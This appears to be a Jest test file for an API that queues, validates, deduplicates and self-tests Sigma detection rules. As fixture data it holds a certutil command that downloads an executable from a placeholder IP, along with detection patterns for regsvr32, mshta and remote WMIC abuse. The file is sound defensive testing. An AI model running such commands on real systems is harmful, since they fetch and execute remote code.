import request from 'supertest';
import { REQUEST_KEYS, TOPICS } from '@huntforge/contracts';
import { load } from 'js-yaml';
import type { PrismaClient } from '@huntforge/data';
import { QueueRepository } from '../repositories/queue-repository';
import { QueueSimilarity } from '../similarity/queue-similarity';
import { createArticle, createExecution, createSource } from '@huntforge/service-testing';
import { rule, startSigmaQueue, writeTree, type SigmaQueueHarness } from '../test-support/harness';

const ID = '55555555-5555-4555-8555-555555555555';
const valid = rule({ id: ID, title: 'Certutil Download' });

describe('review queue', () => {
  let harness: SigmaQueueHarness;
  const api = () => request(harness.app);
  const create = async (body: Record<string, unknown> = { rule_yaml: valid }) => {
    const response = await api().post('/api/sigma-queue').send(body);
    expect(response.status).toBe(201);
    return response.body as { queue_id: number; status: string };
  };

  beforeAll(async () => {
    harness = await startSigmaQueue();
  });
  afterAll(async () => harness.close());
  beforeEach(async () => {
    await harness.ctx.db.prisma.sigmaQueueItem.deleteMany();
  });

  it('queues a valid rule, compares it, and publishes sigma.rule.queued and sigma.queue.changed', async () => {
    const seen: string[] = [];
    const subscription = await harness.ctx.bus.subscribe('test.queue-events', ['sigma.#'], async (message) => {
      seen.push(`${message.type}:${(message.payload as { queue_id: number }).queue_id}`);
    });
    const item = await create({ rule_yaml: valid });
    expect(item).toMatchObject({
      status: 'pending',
      title: 'Certutil Download',
      level: 'medium',
      source: 'generated',
      max_similarity: 0,
      matches: [],
      telemetry_class: 'process_creation',
    });
    await waitUntil(() => seen.length >= 2);
    expect(seen).toEqual([`${TOPICS.sigmaRuleQueued}:${item.queue_id}`, `${TOPICS.sigmaQueueChanged}:${item.queue_id}`]);
    await subscription.cancel();
  });

  it('refuses invalid rules with 400 invalid_sigma and their findings', async () => {
    const response = await api()
      .post('/api/sigma-queue')
      .send({ rule_yaml: valid.replace('level: medium', 'level: severe') });
    expect(response.status).toBe(400);
    expect(response.body.error.code).toBe('invalid_sigma');
    expect(response.body.error.details.findings).toEqual([
      expect.objectContaining({ id: 'invalid_level', severity: 'error', path: 'level' }),
    ]);
  });

  it('refuses an unknown workflow execution with 400, not 500', async () => {
    const response = await api().post('/api/sigma-queue').send({ rule_yaml: valid, workflow_execution_id: 999 });
    expect(response.status).toBe(400);
    expect(response.body.error.code).toBe('validation_error');
  });

  it('lists with status filter, defaults and the 500 cap', async () => {
    const a = await create();
    await create();
    await api().post(`/api/sigma-queue/${a.queue_id}/approve`).send({}).expect(200);
    const all = await api().get('/api/sigma-queue/list');
    expect(all.body).toMatchObject({ total: 2, limit: 50, offset: 0 });
    const approved = await api().get('/api/sigma-queue/list?status=approved&limit=500');
    expect(approved.body.items.map((i: { queue_id: number }) => i.queue_id)).toEqual([a.queue_id]);
    const paged = await api().get('/api/sigma-queue/list?limit=1&offset=1');
    expect(paged.body).toMatchObject({ total: 2, limit: 1, offset: 1 });
    expect(paged.body.items).toHaveLength(1);
    // Pages read by id first come back whole and in the list's order (newest first).
    const ids = (body: { items: Array<{ queue_id: number }> }) => body.items.map((item) => item.queue_id);
    const first = await api().get('/api/sigma-queue/list?limit=1&offset=0');
    expect([...ids(first.body), ...ids(paged.body)]).toEqual(ids(all.body));
    expect(first.body.items[0]).toEqual(all.body.items[0]);
    expect((await api().get('/api/sigma-queue/list?workflow_execution_id=7')).body.total).toBe(0);

    for (const query of [
      'limit=501',
      'limit=0',
      'offset=-1',
      'status=done',
      'workflow_execution_id=abc',
      'statuses=pending,done',
      'statuses=',
    ]) {
      const bad = await api().get(`/api/sigma-queue/list?${query}`);
      expect([query, bad.status, bad.body.error.code]).toEqual([query, 400, 'validation_error']);
    }
  });

  it('lists everything waiting for a person in one page, with counts per status across the queue', async () => {
    const approved = await create();
    const waiting = await create();
    await api().post(`/api/sigma-queue/${approved.queue_id}/approve`).send({}).expect(200);
    const review = await create({ rule_yaml: rule({ id: '66666666-6666-4666-8666-666666666666', title: 'Needs a look' }) });
    await harness.ctx.db.prisma.sigmaQueueItem.update({ where: { id: review.queue_id }, data: { status: 'needs_review' } });

    const listed = await api().get('/api/sigma-queue/list?statuses=pending,needs_review').expect(200);
    expect(listed.body.items.map((item: { queue_id: number }) => item.queue_id).sort()).toEqual([waiting.queue_id, review.queue_id].sort());
    expect(listed.body.total).toBe(2);
    expect(listed.body.counts).toEqual({ pending: 1, needs_review: 1, approved: 1, rejected: 0, submitted: 0 });
    // A single status wins over the list; the counts stay those of the whole queue.
    const single = await api().get('/api/sigma-queue/list?status=approved&statuses=pending').expect(200);
    expect(single.body.items.map((item: { queue_id: number }) => item.queue_id)).toEqual([approved.queue_id]);
    expect(single.body.counts.pending).toBe(1);
  });

  it('adds review notes in any status without changing it, and validates the note', async () => {
    const item = await create();
    const first = await api()
      .post(`/api/sigma-queue/${item.queue_id}/review-notes`)
      .send({ note: 'check the parent image', reviewer: 'ana' });
    expect(first.status).toBe(200);
    await api().post(`/api/sigma-queue/${item.queue_id}/reject`).send({ reason: 'too broad' }).expect(200);
    const second = await api().post(`/api/sigma-queue/${item.queue_id}/review-notes`).send({ note: 'agreed' });
    expect(second.body.status).toBe('rejected');
    expect(second.body.review_notes.map((note: { note: string }) => note.note)).toEqual([
      'check the parent image',
      'rejected: too broad',
      'agreed',
    ]);
    expect((await api().post(`/api/sigma-queue/${item.queue_id}/review-notes`).send({ note: '   ' })).body.error.code).toBe(
      'validation_error',
    );
    expect((await api().post('/api/sigma-queue/424242/review-notes').send({ note: 'x' })).status).toBe(404);
  });

  it('answers 404 for a missing item and 400 for a bad id', async () => {
    expect((await api().get('/api/sigma-queue/424242')).status).toBe(404);
    const bad = await api().get('/api/sigma-queue/abc');
    expect(bad.status).toBe(400);
    expect(bad.body.error.code).toBe('validation_error');
  });

  it('moves pending → approved and refuses every other transition with 409 invalid_transition', async () => {
    const item = await create();
    const approved = await api().post(`/api/sigma-queue/${item.queue_id}/approve`).send({ reviewer: 'ana', note: 'looks good' });
    expect(approved.body).toMatchObject({
      status: 'approved',
      reviewer: 'ana',
      review_notes: [expect.objectContaining({ note: 'looks good', author: 'ana' })],
    });
    expect(approved.body.reviewed_at).toEqual(expect.any(String));

    for (const [method, path, body] of [
      ['post', 'approve', {}],
      ['post', 'reject', { reason: 'dup' }],
      ['put', 'rule', { rule_yaml: valid }],
      ['post', 'enrich', {}],
    ] as const) {
      const response = await api()[method](`/api/sigma-queue/${item.queue_id}/${path}`).send(body);
      expect([path, response.status, response.body.error.code]).toEqual([path, 409, 'invalid_transition']);
    }
  });

  it('moves needs_review → rejected with a reason; rejected is final', async () => {
    const item = await create({ rule_yaml: valid, delivery_permitted: false, source: 'publisher' });
    expect(item.status).toBe('needs_review');
    expect((await api().post(`/api/sigma-queue/${item.queue_id}/reject`).send({})).status).toBe(400);
    const rejected = await api().post(`/api/sigma-queue/${item.queue_id}/reject`).send({ reason: 'duplicate of an existing rule' });
    expect(rejected.body).toMatchObject({ status: 'rejected', rejection_reason: 'duplicate of an existing rule' });
    for (const path of ['approve', 'submit']) {
      const response = await api().post(`/api/sigma-queue/${item.queue_id}/${path}`).send({});
      expect([path, response.status, response.body.error.code]).toEqual([path, 409, 'invalid_transition']);
    }
  });

  it('refuses submitting a pending rule', async () => {
    const item = await create();
    const response = await api().post(`/api/sigma-queue/${item.queue_id}/submit`);
    expect(response.status).toBe(409);
    expect(response.body.error).toMatchObject({
      code: 'invalid_transition',
      details: { status: 'pending', action: 'submit', allowed_from: ['approved'] },
    });
  });

  it('edits the YAML with re-validation: invalid → 400 invalid_sigma with findings, valid → applied', async () => {
    const item = await create();
    const invalid = await api()
      .put(`/api/sigma-queue/${item.queue_id}/rule`)
      .send({ rule_yaml: valid.replace('condition: selection', 'condition: selection and missing') });
    expect(invalid.status).toBe(400);
    expect(invalid.body.error.code).toBe('invalid_sigma');
    expect(invalid.body.error.details.findings.map((f: { id: string }) => f.id)).toContain('condition_unknown_identifier');

    const edited = await api()
      .put(`/api/sigma-queue/${item.queue_id}/rule`)
      .send({ rule_yaml: valid.replace('Certutil Download', 'Certutil Fetch').replace('level: medium', 'level: high') });
    expect(edited.status).toBe(200);
    expect(edited.body).toMatchObject({ title: 'Certutil Fetch', level: 'high', status: 'pending' });
    // The rule as queued stays beside the edit, for the reviewer's diff.
    expect(edited.body.original_rule_yaml).toBe(valid);
    expect(edited.body.rule_yaml).not.toBe(valid);
  });

  it('validates the stored rule: {validated_yaml, findings}', async () => {
    const item = await create({ rule_yaml: valid.replace("    Image|endswith: '\\certutil.exe'", "    Image: '*\\certutil.exe'") });
    const response = await api().post(`/api/sigma-queue/${item.queue_id}/validate`).send({});
    expect(response.status).toBe(200);
    expect(response.body).toMatchObject({ valid: true, enriched: false, conversation_id: null });
    expect(response.body.validated_yaml).toContain("Image: '*\\certutil.exe'");
    expect(response.body.findings.map((f: { id: string }) => f.id)).toEqual(['wildcard_instead_of_modifier']);
  });
});

async function waitUntil(check: () => boolean, timeoutMs = 2000): Promise<void> {
  const started = Date.now();
  while (!check()) {
    if (Date.now() - started > timeoutMs) throw new Error('condition not met in time');
    await new Promise((resolve) => setTimeout(resolve, 10));
  }
}

describe('sigma.queue.enqueue on the bus', () => {
  let harness: SigmaQueueHarness;
  beforeAll(async () => {
    harness = await startSigmaQueue();
  });
  afterAll(async () => harness.close());

  async function execution(): Promise<{ executionId: number; articleId: number }> {
    const prisma = harness.ctx.db.prisma;
    const article = await createArticle(prisma, { sourceId: (await createSource(prisma)).id });
    const run = await createExecution(prisma, article.id, { status: 'running' });
    return { executionId: run.id, articleId: article.id };
  }

  const enqueue = (executionId: number, articleId: number, rules: Array<Record<string, unknown>>, on = harness) =>
    on.ctx.bus.request(REQUEST_KEYS.sigmaQueueEnqueue, { workflow_execution_id: executionId, article_id: articleId, rules });

  it('queues once per (execution, rule), honours needs_review and lists by execution', async () => {
    const { executionId, articleId } = await execution();
    const rules = [{ rule_yaml: valid, source: 'generated', needs_review: true }];
    const first = await enqueue(executionId, articleId, rules);
    expect(first).toMatchObject({ ok: true, results: [{ outcome: 'queued', created: true, status: 'needs_review' }] });
    const again = (await enqueue(executionId, articleId, rules)) as { results: Array<Record<string, unknown>> };
    expect(again).toEqual({ ok: true, results: [{ ...(first as { results: object[] }).results[0], created: false }] });
    const listed = await request(harness.app).get(`/api/sigma-queue/list?workflow_execution_id=${executionId}`);
    expect(listed.body.items.map((i: { article_id: number }) => i.article_id)).toEqual([articleId]);
  });

  it('recognises a generated rule the reviewer already edited: a re-delivered request queues no duplicate', async () => {
    const { executionId, articleId } = await execution();
    const rules = [{ rule_yaml: valid, source: 'generated' }];
    const first = (await enqueue(executionId, articleId, rules)) as { results: Array<{ queue_id: number; created: boolean }> };
    const queueId = first.results[0]?.queue_id;
    await request(harness.app)
      .put(`/api/sigma-queue/${queueId}/rule`)
      .send({ rule_yaml: valid.replace('level: medium', 'level: high') })
      .expect(200);

    const again = (await enqueue(executionId, articleId, rules)) as { results: Array<{ queue_id: number; created: boolean }> };
    expect(again.results).toEqual([expect.objectContaining({ queue_id: queueId, created: false })]);
    expect(await harness.ctx.db.prisma.sigmaQueueItem.count({ where: { workflowExecutionId: executionId } })).toBe(1);
    const item = await request(harness.app).get(`/api/sigma-queue/${queueId}`).expect(200);
    expect(item.body).toMatchObject({ original_rule_yaml: valid, level: 'high' });
  });

  it('queues every rule of a request in order, each with its own comparison, and the same text only once', async () => {
    const { executionId, articleId } = await execution();
    const other = rule({
      id: '66666666-6666-4666-8666-666666666666',
      title: 'Regsvr32 Scriptlet',
      image: '\\regsvr32.exe',
      args: ['/i:http'],
    });
    const reply = (await enqueue(executionId, articleId, [
      { rule_yaml: valid, source: 'generated' },
      { rule_yaml: other, source: 'generated', needs_review: true },
      { rule_yaml: valid, source: 'generated' },
    ])) as { ok: true; results: Array<{ queue_id: number; status: string; created: boolean }> };
    expect(reply.results.map((r) => [r.status, r.created])).toEqual([
      ['pending', true],
      ['needs_review', true],
      ['pending', false],
    ]);
    expect(reply.results[2]?.queue_id).toBe(reply.results[0]?.queue_id);
    const items = await harness.ctx.db.prisma.sigmaQueueItem.findMany({
      where: { workflowExecutionId: executionId },
      orderBy: { id: 'asc' },
    });
    expect(items.map((item) => [item.id, item.title])).toEqual([
      [reply.results[0]?.queue_id, 'Certutil Download'],
      [reply.results[1]?.queue_id, 'Regsvr32 Scriptlet'],
    ]);
  });

  it('queues an invalid publisher rule for review with its findings instead of refusing it', async () => {
    const { executionId, articleId } = await execution();
    const broken = valid.replace('level: medium', 'level: severe');
    const unparsable = 'title: Half a rule\ndetection: [unclosed';
    const reply = (await enqueue(executionId, articleId, [
      { rule_yaml: broken, source: 'publisher', provenance: { start: 10, end: 200 }, delivery_permitted: true },
      { rule_yaml: unparsable, source: 'publisher', delivery_permitted: true },
    ])) as {
      ok: true;
      results: Array<{ outcome: string; queue_id: number; status: string; inconclusive: boolean; max_similarity: number | null }>;
    };
    expect(reply.results.map((r) => [r.outcome, r.status])).toEqual([
      ['queued', 'needs_review'],
      ['queued', 'needs_review'],
    ]);
    expect(reply.results[1]).toMatchObject({ inconclusive: true, max_similarity: null });
    const [first, second] = await harness.ctx.db.prisma.sigmaQueueItem.findMany({
      where: { workflowExecutionId: executionId },
      orderBy: { id: 'asc' },
    });
    expect(first).toMatchObject({ title: 'Certutil Download', source: 'publisher', provenance: { start: 10, end: 200 } });
    expect(first?.validationFindings).toEqual([expect.objectContaining({ id: 'invalid_level', severity: 'error' })]);
    expect(second).toMatchObject({ title: 'Untitled rule', ruleYaml: unparsable, similarityInconclusive: true, maxSimilarity: null });
  });

  it('refuses a request holding an invalid generated rule and queues none of its rules', async () => {
    const { executionId, articleId } = await execution();
    const reply = await enqueue(executionId, articleId, [
      { rule_yaml: valid, source: 'generated' },
      { rule_yaml: 'title: x', source: 'generated' },
    ]);
    expect(reply).toMatchObject({ ok: false, error: { code: 'invalid_sigma' } });
    expect(await harness.ctx.db.prisma.sigmaQueueItem.count({ where: { workflowExecutionId: executionId } })).toBe(0);
  });

  it('answers an execution that does not exist with validation_error and writes nothing', async () => {
    const { articleId } = await execution();
    const before = await harness.ctx.db.prisma.sigmaQueueItem.count();
    expect(await enqueue(999_999, articleId, [{ rule_yaml: valid, source: 'generated' }])).toMatchObject({
      ok: false,
      error: { code: 'validation_error' },
    });
    expect(await harness.ctx.db.prisma.sigmaQueueItem.count()).toBe(before);
  });

  it('applies the promotion rule per rule when given a threshold: a conclusive match at or above it is a duplicate, nothing queued', async () => {
    const customer = writeTree({
      'rules/certutil.yml': rule({ id: '12121212-3434-4565-8787-909090909090', title: 'Customer certutil rule' }),
    });
    const withCorpus = await startSigmaQueue({ SIGMA_REPO_PATH: customer });
    try {
      expect((await withCorpus.ctx.scheduler.runNow('index_customer_repo')).outcome).toBe('succeeded');
      const prisma = withCorpus.ctx.db.prisma;
      const article = await createArticle(prisma);
      const run = await createExecution(prisma, article.id, { status: 'running' });
      const novel = rule({ id: '77777777-7777-4777-8777-777777777777', title: 'Mshta Remote', image: '\\mshta.exe', args: ['http://'] });
      const reply = (await enqueue(
        run.id,
        article.id,
        [
          { rule_yaml: valid, source: 'generated', similarity_threshold: 1 },
          { rule_yaml: novel, source: 'generated', similarity_threshold: 1 },
        ],
        withCorpus,
      )) as {
        ok: true;
        results: Array<{
          outcome: string;
          max_similarity: number;
          inconclusive: boolean;
          matches: Array<{ attribution: { title: string } }>;
        }>;
      };
      expect(reply.results[0]).toMatchObject({ outcome: 'duplicate', max_similarity: 1, inconclusive: false });
      expect(reply.results[0]?.matches[0]?.attribution.title).toBe('Customer certutil rule');
      expect(reply.results[1]).toMatchObject({ outcome: 'queued', created: true });
      expect(await prisma.sigmaQueueItem.findMany({ where: { workflowExecutionId: run.id }, select: { title: true } })).toEqual([
        { title: 'Mshta Remote' },
      ]);
      const withoutThreshold = await enqueue(run.id, article.id, [{ rule_yaml: valid, source: 'generated' }], withCorpus);
      expect(withoutThreshold).toMatchObject({ ok: true, results: [{ outcome: 'queued', created: true, max_similarity: 1 }] });
    } finally {
      await withCorpus.close();
    }
  });

  it('links a rule that repeats an open or approved queue item instead of queueing it again; a rejected item does not count', async () => {
    const [first, second, third] = [await execution(), await execution(), await execution()];
    const generated = (yaml: string) => [{ rule_yaml: yaml, source: 'generated', similarity_threshold: 0.5 }];
    const original = rule({
      id: '81818181-8181-4181-8181-818181818181',
      title: 'Remote WMIC process',
      image: '\\wmic.exe',
      args: ['/node:', 'process call create'],
    });
    const reworded = rule({
      id: '82828282-8282-4282-8282-828282828282',
      title: 'WMIC starts a process on another host',
      image: '\\wmic.exe',
      args: ['/node:', 'process call create'],
    });
    const queued = (await enqueue(first.executionId, first.articleId, generated(original))) as {
      ok: true;
      results: Array<{ outcome: string; queue_id: number }>;
    };
    expect(queued.results[0]).toMatchObject({ outcome: 'queued', created: true });
    const itemId = queued.results[0]?.queue_id as number;

    const again = await enqueue(second.executionId, second.articleId, generated(reworded));
    expect(again).toMatchObject({
      ok: true,
      results: [{ outcome: 'linked', queue_id: itemId, status: 'pending', max_similarity: 1, inconclusive: false }],
    });
    const prisma = harness.ctx.db.prisma;
    expect(await prisma.sigmaQueueItem.count({ where: { workflowExecutionId: second.executionId } })).toBe(0);

    const publisherRule = rule({
      id: '83838383-8383-4383-8383-838383838383',
      title: 'Publisher rule',
      image: '\\mshta.exe',
      args: ['vbscript:'],
    });
    const fromPublisher = [{ rule_yaml: publisherRule, source: 'publisher' }];
    const kept = (await enqueue(first.executionId, first.articleId, fromPublisher)) as { ok: true; results: Array<{ queue_id: number }> };
    expect(await enqueue(second.executionId, second.articleId, fromPublisher)).toMatchObject({
      ok: true,
      results: [{ outcome: 'linked', queue_id: kept.results[0]?.queue_id }],
    });

    await prisma.sigmaQueueItem.update({ where: { id: itemId }, data: { status: 'rejected', rejectionReason: 'too broad' } });
    expect(await enqueue(third.executionId, third.articleId, generated(reworded))).toMatchObject({
      ok: true,
      results: [{ outcome: 'queued', created: true }],
    });
  });

  it('reads and indexes each telemetry class of the queue once per request, however many rules share it', async () => {
    // Alone in the queue, so the unrelated rule has nothing close to match.
    await harness.ctx.db.prisma.sigmaQueueItem.deleteMany();
    const { executionId, articleId } = await execution();
    const wmic = rule({
      id: '84848484-8484-4484-8484-848484848484',
      title: 'Remote WMIC process',
      image: '\\wmic.exe',
      args: ['/node:', 'process call create'],
    });
    const queued = (await enqueue(executionId, articleId, [{ rule_yaml: wmic, source: 'generated' }])) as {
      results: Array<{ queue_id: number }>;
    };
    const repository = new QueueRepository(harness.ctx.db.prisma);
    const reads = jest.spyOn(repository, 'openItemsOfClass');
    const session = new QueueSimilarity(repository).session();
    const docOf = (yaml: string) => load(yaml) as Record<string, unknown>;
    const reworded = rule({
      id: '85858585-8585-4585-8585-858585858585',
      title: 'WMIC on another host',
      image: '\\wmic.exe',
      args: ['/node:', 'process call create'],
    });
    const unrelated = rule({
      id: '86868686-8686-4686-8686-868686868686',
      title: 'Mshta script',
      image: '\\mshta.exe',
      args: ['vbscript:'],
    });
    expect(await session.closest(docOf(reworded))).toMatchObject({ queueId: queued.results[0]?.queue_id, score: 1 });
    expect((await session.closest(docOf(unrelated)))?.score ?? 0).toBeLessThan(0.5);
    expect(reads).toHaveBeenCalledTimes(1);
    // A new request reads the queue again, so it sees what was queued in between.
    await new QueueSimilarity(repository).session().closest(docOf(reworded));
    expect(reads).toHaveBeenCalledTimes(2);
  });

  // The embedded database's own client fingerprints the queue by the count of this process's writes to it; a client
  // the driver does not know (as on PostgreSQL, where other processes write too) asks the database.
  const clients: Array<[string, () => PrismaClient]> = [
    ['the count of its writes (embedded database)', () => harness.ctx.db.prisma],
    ['the database fingerprint', () => harness.ctx.db.prisma.$extends({}) as unknown as PrismaClient],
  ];

  it.each(clients)(
    'keeps a telemetry class indexed across requests while its open items are unchanged, and reads it again once one changes (fingerprint: %s)',
    async (_, client) => {
      await harness.ctx.db.prisma.sigmaQueueItem.deleteMany();
      const first = await execution();
      const wmic = rule({
        id: '87878787-8787-4787-8787-878787878787',
        title: 'Remote WMIC process',
        image: '\\wmic.exe',
        args: ['/node:', 'process call create'],
      });
      const queued = (await enqueue(first.executionId, first.articleId, [{ rule_yaml: wmic, source: 'generated' }])) as {
        results: Array<{ queue_id: number }>;
      };
      const itemId = queued.results[0]?.queue_id as number;
      const repository = new QueueRepository(client());
      const reads = jest.spyOn(repository, 'openItemsOfClass');
      const similarity = new QueueSimilarity(repository);
      const docOf = (yaml: string) => load(yaml) as Record<string, unknown>;
      const mshta = rule({
        id: '88888888-8888-4888-8888-888888888888',
        title: 'Mshta script',
        image: '\\mshta.exe',
        args: ['vbscript:'],
      });
      expect(await similarity.session().closest(docOf(wmic))).toMatchObject({ queueId: itemId, score: 1, status: 'pending' });
      expect(await similarity.session().closest(docOf(wmic))).toMatchObject({ queueId: itemId, score: 1 });
      expect(reads).toHaveBeenCalledTimes(1);

      // A new item, a status change and an item leaving the open set each show in the next request.
      const second = await execution();
      const added = (await enqueue(second.executionId, second.articleId, [{ rule_yaml: mshta, source: 'generated' }])) as {
        results: Array<{ queue_id: number }>;
      };
      expect(await similarity.session().closest(docOf(mshta))).toMatchObject({ queueId: added.results[0]?.queue_id, score: 1 });
      expect(reads).toHaveBeenCalledTimes(2);
      await harness.ctx.db.prisma.sigmaQueueItem.update({ where: { id: itemId }, data: { status: 'approved' } });
      expect(await similarity.session().closest(docOf(wmic))).toMatchObject({ queueId: itemId, status: 'approved' });
      await harness.ctx.db.prisma.sigmaQueueItem.update({
        where: { id: itemId },
        data: { status: 'rejected', rejectionReason: 'too broad' },
      });
      expect((await similarity.session().closest(docOf(wmic)))?.queueId).not.toBe(itemId);
      expect(reads).toHaveBeenCalledTimes(4);
    },
  );

  it('shows the self-test and covering reference rules the workflow recorded, and runs the self-test again on an edited rule', async () => {
    const { executionId, articleId } = await execution();
    const observables = [{ type: 'cmdline', value: 'certutil.exe -urlcache -f http://198.51.100.4/a.exe a.exe' }];
    const coveredBy = [
      {
        rule_id: 'r-1',
        title: 'CertUtil Download',
        author: 'SigmaHQ',
        license: 'DRL-1.1',
        origin: 'sigmahq',
        path: 'rules/certutil.yml',
        level: 'high',
      },
    ];
    const provenance = {
      self_test: {
        fires: true,
        events: 2,
        fired_on: [`cmdline: ${observables[0]?.value}`],
        baseline: { events: 3286, fires: 0, examples: [] },
      },
      observables,
      covered_by: coveredBy,
    };
    const [result] = (
      (await enqueue(executionId, articleId, [{ rule_yaml: valid, source: 'generated', needs_review: true, provenance }])) as {
        results: Array<{ queue_id: number }>;
      }
    ).results;
    const item = (await request(harness.app).get(`/api/sigma-queue/${result?.queue_id}`).expect(200)).body;
    expect(item.self_test).toEqual({
      fires: true,
      events: 2,
      fired_on: [`cmdline: ${observables[0]?.value}`],
      baseline: { events: 3286, fires: 0, examples: [] },
      error: null,
    });
    expect(item.covered_by).toEqual(coveredBy);

    // An edit that no longer matches the observable: the queue runs the self-test on the new YAML.
    const edited = await request(harness.app)
      .put(`/api/sigma-queue/${result?.queue_id}/rule`)
      .send({ rule_yaml: rule({ id: ID, title: 'Certutil Download', image: '\\bitsadmin.exe' }) })
      .expect(200);
    expect(edited.body.self_test).toMatchObject({ fires: false, fired_on: [] });
    expect(edited.body.self_test.baseline.events).toBeGreaterThanOrEqual(3000);
    expect(edited.body.covered_by).toEqual(coveredBy);
    // A rule queued without observables has no self-test to show or re-run.
    const plain = (
      await request(harness.app)
        .post('/api/sigma-queue')
        .send({ rule_yaml: rule({ id: '7c1e2a4b-5d6f-4a8b-9c0d-1e2f3a4b5c6d', title: 'Plain' }) })
        .expect(201)
    ).body as { queue_id: number };
    expect(
      (
        await request(harness.app)
          .put(`/api/sigma-queue/${plain.queue_id}/rule`)
          .send({ rule_yaml: rule({ id: '7c1e2a4b-5d6f-4a8b-9c0d-1e2f3a4b5c6d', title: 'Plain', args: ['-decode'] }) })
          .expect(200)
      ).body.self_test,
    ).toBeNull();
  });

  it('self-tests a draft as the reviewer types it, storing nothing; a half-typed draft gets the reason, not a 400', async () => {
    const { executionId, articleId } = await execution();
    const observables = [{ type: 'cmdline', value: 'certutil.exe -urlcache -f http://198.51.100.4/a.exe a.exe' }];
    const provenance = {
      self_test: { fires: true, events: 2, fired_on: [`cmdline: ${observables[0]?.value}`], baseline: null },
      observables,
    };
    const [result] = (
      (await enqueue(executionId, articleId, [{ rule_yaml: valid, source: 'generated', provenance }])) as {
        results: Array<{ queue_id: number }>;
      }
    ).results;
    const id = result?.queue_id as number;
    const draft = (yaml: string) => request(harness.app).post(`/api/sigma-queue/${id}/self-test`).send({ rule_yaml: yaml });

    const stillFires = await draft(valid).expect(200);
    expect(stillFires.body.self_test).toMatchObject({ fires: true, fired_on: [`cmdline: ${observables[0]?.value}`], error: null });
    expect(stillFires.body.self_test.baseline.events).toBeGreaterThanOrEqual(3000);
    const broken = await draft(rule({ id: ID, title: 'Certutil Download', image: '\\bitsadmin.exe' })).expect(200);
    expect(broken.body.self_test).toMatchObject({ fires: false, fired_on: [], error: null });
    const halfTyped = await draft('title: Certutil\ndetection:\n  selection:\n    Image|endswith: x\n').expect(200);
    expect(halfTyped.body.self_test.fires).toBe(false);
    expect(halfTyped.body.self_test.error).toMatch(/condition/);
    // Nothing was stored: the item keeps its rule and the self-test the workflow recorded.
    const item = (await request(harness.app).get(`/api/sigma-queue/${id}`).expect(200)).body;
    expect(item.rule_yaml).toBe(valid);
    expect(item.self_test.fires).toBe(true);

    const plain = (
      await request(harness.app)
        .post('/api/sigma-queue')
        .send({ rule_yaml: rule({ id: '7c1e2a4b-5d6f-4a8b-9c0d-1e2f3a4b5c6e', title: 'Plain' }) })
        .expect(201)
    ).body as { queue_id: number };
    expect(
      (await request(harness.app).post(`/api/sigma-queue/${plain.queue_id}/self-test`).send({ rule_yaml: valid }).expect(200)).body,
    ).toEqual({ self_test: null });
    expect(
      (await request(harness.app).post('/api/sigma-queue/987654/self-test').send({ rule_yaml: valid }).expect(404)).body.error.code,
    ).toBe('not_found');
    expect((await request(harness.app).post(`/api/sigma-queue/${id}/self-test`).send({}).expect(400)).body.error.code).toBe(
      'validation_error',
    );
  });

  it('answers bad payloads with ok: false validation_error', async () => {
    const { executionId, articleId } = await execution();
    expect(await harness.ctx.bus.request(REQUEST_KEYS.sigmaQueueEnqueue, { rule_yaml: valid })).toMatchObject({
      ok: false,
      error: { code: 'validation_error' },
    });
    expect(await enqueue(executionId, articleId, [])).toMatchObject({ ok: false, error: { code: 'validation_error' } });
  });
});
